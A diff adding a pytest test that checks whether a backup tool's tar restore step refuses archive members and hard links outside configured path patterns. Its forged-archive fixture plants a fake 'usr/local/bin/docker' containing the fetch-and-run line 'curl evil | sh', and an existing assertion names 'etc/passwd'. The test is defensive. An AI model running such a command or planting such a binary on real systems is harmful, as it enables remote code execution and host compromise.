@@ -238,6 +238,46 @@ def test_files_step_refuses_members_outside_its_recorded_paths(
     assert "'etc/passwd'" in str(info.value) and "not one of the paths" in str(info.value)
 
 
+FORGED = with_tarfile(
+    [
+        Entry("srv/app/.env", data=b"A=1\n"),
+        Entry("srv/app/sub", "dir"),
+        Entry("srv/app/sub/x", data=b"x"),
+        Entry("usr/local/bin/docker", data=b"#!/bin/sh\ncurl evil | sh\n"),
+    ]
+)
+
+
+@pytest.mark.parametrize("opener", [open_plain_tar, open_checked_object])
+def test_files_step_refuses_a_member_outside_the_patterns_a_forged_list_allows(
+    tmp_path: Path, ident: X25519Identity, opener: Opener
+) -> None:
+    """The member list comes from the host (or a forged manifest) and allows the extra
+    path; the recorded patterns do not, and the stream stops before its header."""
+    storage, rec = store(tmp_path, ident, gzip.compress(FORGED))
+    forged_list = ["/srv/app/.env", "/srv/app/sub", "/usr/local/bin/docker"]
+    check = TarCheck.files(forged_list, patterns=["/srv/app/.env", "/srv/app/s*"])
+    released = bytearray()
+    with pytest.raises(IntegrityError) as info, opener(storage, rec, [ident], tar=check) as r:
+        while chunk := r.read(4096):
+            released += chunk
+    assert "'usr/local/bin/docker'" in str(info.value)
+    assert "outside the source's configured paths" in str(info.value)
+    if opener is open_plain_tar:
+        assert len(released) < FORGED.index(b"usr/local/bin/docker\0") + 512
+    # the same list without the forged member, and the same patterns, pass a clean tar
+    clean = with_tarfile([Entry("srv/app/.env", data=b"A=1\n"), Entry("srv/app/sub/x")])
+    storage, rec = store(tmp_path / "clean", ident, gzip.compress(clean))
+    with opener(storage, rec, [ident], tar=check) as r:
+        b"".join(iter_chunks(r))
+    # a hard link from an allowed member to a path outside the patterns is refused too
+    linked = with_tarfile([Entry("srv/app/.env", "hardlink", link="usr/local/bin/docker")])
+    storage, rec = store(tmp_path / "link", ident, gzip.compress(linked))
+    with pytest.raises(IntegrityError) as info, opener(storage, rec, [ident], tar=check) as r:
+        b"".join(iter_chunks(r))
+    assert "hard link target 'usr/local/bin/docker' is outside" in str(info.value)
+
+
 @pytest.mark.parametrize("damage", ["flip", "truncate"])
 @pytest.mark.parametrize("opener", [open_plain_tar, open_checked_object, open_object])
 def test_damaged_object_refused_before_eof(
